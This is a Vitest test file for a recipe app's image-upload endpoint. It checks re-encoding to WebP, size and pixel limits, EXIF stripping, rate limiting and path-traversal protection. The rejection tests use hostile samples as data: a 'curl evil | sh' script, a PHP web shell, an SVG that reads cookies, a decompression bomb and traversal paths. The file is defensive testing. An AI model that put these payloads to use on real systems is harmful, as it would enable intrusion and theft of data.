import { IMAGE_LARGE_MAX_SIDE, IMAGE_MAX_BYTES, IMAGE_SMALL_MAX_SIDE, imageVariant } from '@chef/shared';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UPLOADS_PER_USER_MINUTE } from '../src/modules/upload/upload.routes.js';
import { buildTestApp, call, registerUser, type TestApp } from './helper.js';
import { picture, pngDeclaring, upload } from './multipart.js';

let t: TestApp;
let token: string;
beforeAll(async () => {
  t = await buildTestApp({ PUBLIC_URL: 'http://chef.test' });
  token = (await registerUser(t)).token;
});
afterAll(async () => {
  await t.close();
});

const png = (data: Buffer, filename = 'photo.png') => ({ filename, contentType: 'image/png', data });
/** Fetches a stored picture through the app, as a browser loads it. */
const fetchMedia = (url: string) => t.app.inject({ method: 'GET', url: new URL(url).pathname });
const tooLargeMsg = 'Upload picture size cannot exceed 2MB!';
const badTypeMsg = 'Please upload PNG or JPG pictures';

describe('uploadFileToThirdStorage', () => {
  it('re-encodes a PNG to WebP in two sizes under a server-made name and serves them for a year', async () => {
    const res = await upload(t.app, { token, folderName: 'avatar', file: png(await picture(1600, 900), '../../etc/passwd.png') });
    expect(res.body.code).toBe(0);
    const url: string = res.body.data;
    expect(url).toMatch(/^http:\/\/chef\.test\/media\/avatar\/\d{4}\/\d{2}\/[0-9a-f]{32}\.webp$/);

    const large = await fetchMedia(url);
    expect(large.statusCode).toBe(200);
    expect(large.headers['content-type']).toBe('image/webp');
    expect(large.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(large.headers['x-content-type-options']).toBe('nosniff');
    const largeMeta = await sharp(large.rawPayload).metadata();
    expect([largeMeta.format, largeMeta.width, largeMeta.height]).toEqual(['webp', IMAGE_LARGE_MAX_SIDE, 608]);

    const small = await fetchMedia(imageVariant(url, 'sm')!);
    expect(small.statusCode).toBe(200);
    const smallMeta = await sharp(small.rawPayload).metadata();
    expect([smallMeta.format, smallMeta.width, smallMeta.height]).toEqual(['webp', IMAGE_SMALL_MAX_SIDE, 180]);
  });

  it('never enlarges a small picture', async () => {
    const res = await upload(t.app, { token, folderName: 'recipe', file: png(await picture(200, 100)) });
    const meta = await sharp((await fetchMedia(res.body.data)).rawPayload).metadata();
    expect([meta.width, meta.height]).toEqual([200, 100]);
  });

  it('turns a JPEG upright by its EXIF orientation and strips its metadata', async () => {
    // 300 wide, 100 high, stored with "rotate 90°" and a camera's EXIF (maker, GPS-like comment).
    const jpeg = await sharp({ create: { width: 300, height: 100, channels: 3, background: '#3366cc' } })
      .jpeg()
      .withMetadata({ orientation: 6, exif: { IFD0: { Make: 'SpyCam', ImageDescription: 'home: 51.5N 0.1W' } } })
      .toBuffer();
    expect((await sharp(jpeg).metadata()).exif).toBeDefined();
    const res = await upload(t.app, { token, folderName: 'feedback', file: { filename: 'a.jpg', contentType: 'image/jpeg', data: jpeg } });
    const stored = (await fetchMedia(res.body.data)).rawPayload;
    const meta = await sharp(stored).metadata();
    expect([meta.width, meta.height]).toEqual([100, 300]);
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(stored.includes(Buffer.from('SpyCam'))).toBe(false);
  });

  it('accepts the fields in either order', async () => {
    const res = await upload(t.app, { token, folderName: 'anthology', file: png(await picture(20, 20)), fileFirst: true });
    expect(res.body.data).toMatch(/\/media\/anthology\//);
  });

  it('rejects 2 MB + 1 byte with 413 while streaming, and accepts exactly 2 MB', async () => {
    const head = await picture(64, 64);
    // Bytes after IEND are ignored by decoders: the same picture, padded to the exact size.
    const padded = (size: number) => Buffer.concat([head, Buffer.alloc(size - head.length)]);
    const over = await upload(t.app, { token, folderName: 'recipe', file: png(padded(IMAGE_MAX_BYTES + 1)) });
    expect(over.status).toBe(413);
    expect(over.body).toEqual({ code: 413, msg: tooLargeMsg, data: { field: 'file' } });
    const exact = await upload(t.app, { token, folderName: 'recipe', file: png(padded(IMAGE_MAX_BYTES)) });
    expect(exact.body.code).toBe(0);
  });

  it.each([
    ['a script renamed .jpg', { filename: 'cat.jpg', contentType: 'image/jpeg', data: Buffer.from('#!/bin/sh\ncurl evil | sh\n') }],
    ['a script sent as image/png', { filename: 'cat.png', contentType: 'image/png', data: Buffer.from('<?php system($_GET["c"]); ?>') }],
    [
      'an SVG',
      {
        filename: 'logo.svg',
        contentType: 'image/svg+xml',
        data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
      },
    ],
    ['a GIF', { filename: 'a.gif', contentType: 'image/gif', data: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;') }],
  ])('rejects %s with 415, by content', async (_name, file) => {
    const res = await upload(t.app, { token, folderName: 'recipe', file });
    expect(res.status).toBe(415);
    expect(res.body).toEqual({ code: 415, msg: badTypeMsg, data: { field: 'file' } });
  });

  it('rejects a script behind a PNG signature as unreadable', async () => {
    const data = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('<script>alert(1)</script>')]);
    const res = await upload(t.app, { token, folderName: 'recipe', file: png(data) });
    expect(res.body).toEqual({ code: 400, msg: 'The picture could not be read, please choose another one', data: { field: 'file' } });
  });

  it('rejects a picture over the pixel limit before decoding it', async () => {
    const bomb = pngDeclaring(20_000, 20_000);
    expect(bomb.length).toBeLessThan(100);
    const res = await upload(t.app, { token, folderName: 'recipe', file: png(bomb) });
    expect(res.body).toEqual({ code: 400, msg: 'The picture is too large: at most 40 megapixels', data: { field: 'file' } });
  });

  it('rejects an empty file and a missing file', async () => {
    const empty = await upload(t.app, { token, folderName: 'recipe', file: png(Buffer.alloc(0)) });
    expect(empty.body).toEqual({ code: 400, msg: 'The picture file is empty', data: { field: 'file' } });
    const missing = await upload(t.app, { token, folderName: 'recipe' });
    expect(missing.body).toEqual({ code: 400, msg: 'Please choose a picture to upload', data: { field: 'file' } });
  });

  it('rejects an unknown or missing folderName naming the field, in the caller language', async () => {
    const file = png(await picture(10, 10));
    const bad = await upload(t.app, { token, folderName: '../../etc', file });
    expect(bad.body).toEqual({
      code: 400,
      msg: 'Folder: Must be one of: recipe, avatar, feedback, anthology, article',
      data: { field: 'folderName' },
    });
    const zh = await upload(t.app, { token, folderName: 'secret', file, lang: 'zh-CN' });
    expect(zh.body.msg).toBe('目录: 只能是以下之一：recipe, avatar, feedback, anthology, article');
    const missing = await upload(t.app, { token, file });
    expect(missing.body).toEqual({ code: 400, msg: 'Folder: This field is required', data: { field: 'folderName' } });
    const big = await upload(t.app, { token, folderName: 'recipe', file: png(Buffer.alloc(IMAGE_MAX_BYTES + 1)), lang: 'zh-CN' });
    expect(big.body.msg).toBe('上传图片大小不能超过 2MB!');
  });

  it('answers 401 without a valid token and stores nothing', async () => {
    const file = png(await picture(10, 10));
    for (const options of [{}, { token: 'forged' }]) {
      const res = await upload(t.app, { ...options, folderName: 'recipe', file });
      expect(res.body).toEqual({ code: 401, msg: 'Login failure', data: null });
    }
  });

  it('refuses a body that is not a multipart form with 415', async () => {
    const res = await call(t.app, 'POST', '/api/common/uploadFileToThirdStorage', { token, body: { folderName: 'recipe', file: 'x' } });
    expect(res.status).toBe(415);
    expect(res.body.code).toBe(415);
  });

  it('answers 404 for a picture that does not exist, not the web app', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/media/avatar/2020/01/0123456789abcdef0123456789abcdef.webp' });
    expect(res.statusCode).toBe(404);
    expect(res.json()).toMatchObject({ code: 404 });
    // A path climbing out of /media never reaches the data folder (it is the web app's page at most).
    for (const url of ['/media/../chef.db', '/media/%2e%2e/chef.db', '/media/..%2fchef.db', '/media/avatar/..%2f..%2fchef.db']) {
      const climb = await t.app.inject({ method: 'GET', url });
      expect(climb.rawPayload.subarray(0, 15).toString(), url).not.toBe('SQLite format 3');
    }
  });

  it(`limits each user to ${UPLOADS_PER_USER_MINUTE} uploads a minute`, async () => {
    const other = await registerUser(t);
    const file = png(await picture(8, 8));
    for (let i = 0; i < UPLOADS_PER_USER_MINUTE; i++) {
      expect((await upload(t.app, { token: other.token, folderName: 'feedback', file })).status).toBe(200);
    }
    const over = await upload(t.app, { token: other.token, folderName: 'feedback', file });
    expect(over.status).toBe(429);
    expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
    // Another user is not affected.
    expect((await upload(t.app, { token, folderName: 'feedback', file })).status).toBe(200);
  });

  it('is documented in the OpenAPI document', async () => {
    const doc = (await t.app.inject({ method: 'GET', url: '/api/docs/json' })).json();
    expect(doc.paths['/api/common/uploadFileToThirdStorage'].post.description).toContain('.sm.webp');
  });
});

describe('bounded decoding', () => {
  it('answers 20 simultaneous 40-megapixel uploads each with its picture or a 429/503 with Retry-After', async () => {
    const user = await registerUser(t);
    // A flat 8000x5000 picture compresses far under 2 MB: the cheapest way to make a server decode 40 MP.
    const big = await sharp({ create: { width: 8000, height: 5000, channels: 3, background: '#d9501c' } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    const answers = await Promise.all(
      Array.from({ length: 20 }, () => upload(t.app, { token: user.token, folderName: 'recipe', file: png(big, 'big.png') })),
    );
    for (const answer of answers) {
      if (answer.status === 200) expect(answer.body.data).toMatch(/\.webp$/);
      else {
        expect([429, 503]).toContain(answer.status);
        expect(Number(answer.headers['retry-after'])).toBeGreaterThan(0);
      }
    }
    expect(answers.some((answer) => answer.status === 200)).toBe(true);
  }, 120_000);
});
